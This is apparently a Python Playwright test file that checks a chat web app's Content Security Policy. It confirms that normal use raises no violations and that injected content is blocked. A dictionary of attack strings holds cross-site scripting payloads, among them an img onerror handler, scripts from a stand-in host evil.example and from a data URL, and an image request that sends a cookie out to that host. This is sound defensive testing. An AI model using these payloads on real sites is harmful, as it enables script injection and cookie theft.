"""What a browser says of the security policy while somebody uses everything there is, and while somebody attacks."""

import re
from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.conftest import Person, Server, TestRoom

pytestmark = pytest.mark.long

WATCH = """
addEventListener("securitypolicyviolation", (event) =>
  console.error("violated", event.effectiveDirective, event.blockedURI, event.sourceFile, event.lineNumber))
"""


@pytest.fixture
def complaints() -> list[str]:
    return []


@pytest.fixture
def watched(browser: Browser, complaints: list[str]) -> Iterator[Page]:
    """A fresh browser that notes all that it finds wrong."""
    context = browser.new_context()
    context.add_init_script(WATCH)
    page = context.new_page()
    page.on("console", lambda message: message.type == "error" and complaints.append(message.text))
    page.on("pageerror", lambda error: complaints.append(str(error)))
    yield page
    context.close()


def test_nobody_who_uses_the_app_violates_its_policy(
    watched: Page, complaints: list[str], server: Server, room: TestRoom
) -> None:
    person = Person(watched.context, server, "Adam Example")
    person.page = page = watched
    page.goto(f"{server.url}/rooms/{room.id}")
    page.get_by_role("textbox", name="Email").fill("adam@streamchat.io")
    page.get_by_role("textbox", name="Password").fill("wrong")
    page.get_by_role("button", name="Log in").click()
    expect(page.get_by_role("alert")).to_be_visible()
    complaints.remove("Failed to load resource: the server responded with a status of 401 (Unauthorized)")
    page.get_by_role("button", name="Continue as Adam").click()
    person.is_live()
    person.says("to be edited", "to be deleted")
    person.sees("to be edited", "to be deleted")
    person.edits("to be edited", "edited")
    person.deletes("to be deleted")
    page.evaluate("window.socket.io.engine.close()")
    person.says("said after a cut")
    person.sees("said after a cut", "edited")
    page.locator("#rooms-1").click()
    page.wait_for_url("**/rooms/1")
    page.go_back()
    person.sees("said after a cut")
    page.goto(f"{server.url}/rooms")
    person.is_live()
    assert complaints == []
    for path in ("/rooms/999999", "/nowhere"):
        page.goto(server.url + path)
        expect(page.get_by_text(re.compile("(Room|Page) not found"))).to_be_visible()
    assert complaints == ["Failed to load resource: the server responded with a status of 404 (Not Found)"] * 2


def test_people_look_as_before(person: Callable[..., Person], room: TestRoom) -> None:
    """Colours come by classes on plain pages, which allow no style attributes, and by scripts in rows."""
    adam = person("Adam").opens(room)
    adam.says("hello")
    adam.sees("hello")
    colour = "element => getComputedStyle(element).getPropertyValue('--hue').trim()"
    mine = adam.page.locator(".account .avatar").evaluate(colour)
    assert adam.row("hello").evaluate(colour) == mine != ""
    adam.page.context.clear_cookies()
    adam.page.goto(f"{adam.server.url}/login")
    assert adam.page.get_by_role("button", name="Continue as Adam").locator(".avatar").evaluate(colour) == mine


ATTACKS = {
    "a script that was put into the page": "s = document.createElement('script'); s.textContent = 'attacked = 1'",
    "a script of another site": "s = document.createElement('script'); s.src = 'https://evil.example/x.js'",
    "a script of a data address": "s = document.createElement('script'); s.src = 'data:text/javascript,attacked = 1'",
    "an attribute": "s = document.createElement('b'); s.innerHTML = '<img src=x: onerror=\"attacked = 1\">'",
    "a style that was put into the page": "s = document.createElement('style'); s.textContent = 'body { color: red }'",
    "a frame": "s = document.createElement('iframe'); s.src = 'https://evil.example'",
    "a picture that carries something out": "s = new Image(); s.src = 'https://evil.example/?cookie'",
    "a base": "s = document.createElement('base'); s.href = 'https://evil.example'",
    "a plugin": "s = document.createElement('object'); s.data = 'https://evil.example'",
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_somebody_smuggled_into_a_live_page_has_no_effect(adam: Person, room: TestRoom, attack: str) -> None:
    adam.opens(room)
    violation = adam.page.evaluate(
        f"""new Promise((resolve) => {{
            addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective));
            let s; {ATTACKS[attack]};
            document.body.append(s);
        }})"""
    )
    assert violation
    assert adam.page.evaluate("window.attacked") is None


def test_no_other_site_can_frame_a_page(browser: Browser, server: Server) -> None:
    page = browser.new_page()
    page.set_content(f"<iframe src='{server.url}/login'></iframe>")
    frame = page.frame_locator("iframe")
    expect(frame.get_by_role("button", name="Log in")).to_have_count(0)
    page.close()
